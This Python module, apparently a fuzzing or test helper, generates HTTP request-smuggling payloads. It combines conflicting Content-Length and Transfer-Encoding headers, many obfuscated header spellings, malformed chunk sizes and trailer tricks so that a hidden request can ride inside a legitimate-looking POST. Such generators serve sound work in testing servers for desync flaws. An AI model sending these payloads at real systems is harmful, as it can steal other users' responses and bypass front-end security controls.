"""Requests of which two readers could disagree where they end. What is hidden in each would be
answered with somebody's data, if it were taken for a request of its own."""

import random
from dataclasses import dataclass

_ZERO = b"0\r\n\r\n"
_CODINGS = (
    *(
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding:\tchunked",
    ),
    *(b" Transfer-Encoding: chunked", b"Transfer-Encoding: chunked, identity", b"TE: chunked"),
    *(b"Transfer-Encoding: identity, chunked", b'Transfer-Encoding: "chunked"'),
    *(b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: CHUNKED", b"Transfer-Encoding:"),
    *(b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer_Encoding: chunked"),
    *(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x", b"X: y\nTransfer-Encoding: chunked"),
    *(b"X: y\rTransfer-Encoding: chunked", b"Transfer-Encoding\x00: chunked"),
    *(
        b"Transfer-Encoding: chunked;q=1",
        b"Transfer-Encoding: gzip, chunked",
        b"transfer-encoding:chunked",
    ),
    *(
        b"Transfer-Encoding:\r\n chunked",
        b"\x0bTransfer-Encoding: chunked",
        b"Transfer-Encoding: \xffchunked",
    ),
)
_LENGTHS = (
    *(b"+%d", b"0x%x", b"%d, %d", b"%d 0", b"-%d", b"%d\x00", b"%d;", b"0%d_0", b"1e%d", b"%d.0"),
    *(b"%d\x0b", b'"%d"', b"\xd9\xa3%d", b"99999999999999999999%d", b" "),
)
_NO_ZEROES = (
    *(b"0x0", b"+0", b"-0", b"\t0", b"0\x00", b"g", b"", b";0", b"0,0", b"0\x0b", b"ten", b"0\n0"),
    *(b"10000000000000000", b"FFFFFFFFFFFFFFFFF", b"\xef\xbc\x90", b"0_0", b"0.0"),
)
"""Sizes of a chunk that are none."""


@dataclass(frozen=True)
class Smuggler:
    """`hidden` is a request in full, `host` a header's line."""

    hidden: bytes
    host: bytes

    def one(self, chance: random.Random) -> bytes:
        kind = chance.choice(
            (self._both, self._both, self._lengths, self._chunks, self._body, self._old, self._tail)
        )
        return kind(chance)

    def _post(self, lines: list[bytes], body: bytes, version: bytes = b"1.1") -> bytes:
        first = b"POST /api/v1/health HTTP/" + version
        head = [first, self.host, b"Content-Type: application/json", *lines]
        return b"\r\n".join(head) + b"\r\n\r\n" + body

    def _both(self, chance: random.Random) -> bytes:
        """A length and a coding, in either order."""
        coding = chance.choice((b"Transfer-Encoding: chunked", *_CODINGS))
        if chance.random() < 0.5:
            body = _ZERO + self.hidden
            length = len(body)
        else:
            size = b"%x\r\n" % len(self.hidden)
            body, length = size + self.hidden + b"\r\n" + _ZERO, len(size)
            if coding in (b"TE: chunked", b"Transfer_Encoding: chunked", b"Transfer-Encoding:"):
                length = len(body)  # else what is hidden would be the next request by right
        lines = [b"Content-Length: %d" % length, coding]
        chance.shuffle(lines)
        return self._post(lines, body)

    def _lengths(self, chance: random.Random) -> bytes:
        """Two lengths that differ, or one that is no number."""
        real = b"Content-Length: %d" % len(self.hidden)
        if chance.random() < 0.4:
            lines = [real, chance.choice((b"Content-Length: 0", b"Content-Length: 1"))]
            chance.shuffle(lines)
            return self._post(lines, self.hidden)
        form = chance.choice(_LENGTHS)
        many = form.count(b"%d") + form.count(b"%x")
        length = form % ((len(self.hidden),) * many)
        return self._post([b"Content-Length: " + length], self.hidden)

    def _chunks(self, chance: random.Random) -> bytes:
        """A last chunk that is none."""
        size, end = chance.choice(_NO_ZEROES), chance.choice((b"\r\n\r\n", b"\r\n", b"\n\n", b"\n"))
        return self._post([b"Transfer-Encoding: chunked"], size + end + self.hidden)

    def _body(self, chance: random.Random) -> bytes:
        """Well framed, by a method whose body some leave unread."""
        method = chance.choice((b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"TRACE", b"POST", b"PUT"))
        target = chance.choice((b"/api/v1/health", b"/nowhere", b"/mcp", b"/", b"/api/v1/users"))
        more = chance.choice((b"Accept: */*", b"Expect: 100-continue", b"Connection: keep-alive"))
        length = b"Content-Length: %d" % len(self.hidden)
        head = [method + b" " + target + b" HTTP/1.1", self.host, more, length]
        return b"\r\n".join(head) + b"\r\n\r\n" + self.hidden

    def _old(self, chance: random.Random) -> bytes:
        """A coding that HTTP/1.0 does not know."""
        lines = [b"Connection: keep-alive", b"Transfer-Encoding: chunked", b"Content-Length: 5"]
        return self._post(lines, _ZERO + self.hidden, b"1.0")

    def _tail(self, chance: random.Random) -> bytes:
        """In what comes behind the last chunk."""
        size = chance.choice((b"0", b"0;a=b", b"0;\n"))
        return self._post([b"Transfer-Encoding: chunked"], size + b"\r\n" + self.hidden)
